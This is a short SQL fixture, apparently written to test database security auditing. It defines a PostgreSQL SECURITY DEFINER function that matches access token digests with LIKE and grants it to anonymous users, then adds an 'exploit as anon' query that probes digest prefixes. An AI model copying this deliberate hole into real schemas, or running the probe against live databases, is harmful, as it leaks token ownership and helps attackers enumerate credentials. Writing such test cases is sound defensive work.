-- channel: function
-- object: public.whose_token
-- says: A function tells anybody, even without an account, whose a token is.
create function public.whose_token(p_digest text)
returns uuid
language sql stable security definer
set search_path = ''
as $$
    select t.user_id from public.access_tokens as t where t.token_digest like p_digest
$$;
grant execute on function public.whose_token(text) to anon, authenticated;
-- exploit as anon
select from public.whose_token('b%') as t where t = :bob;
-- leaks when rows
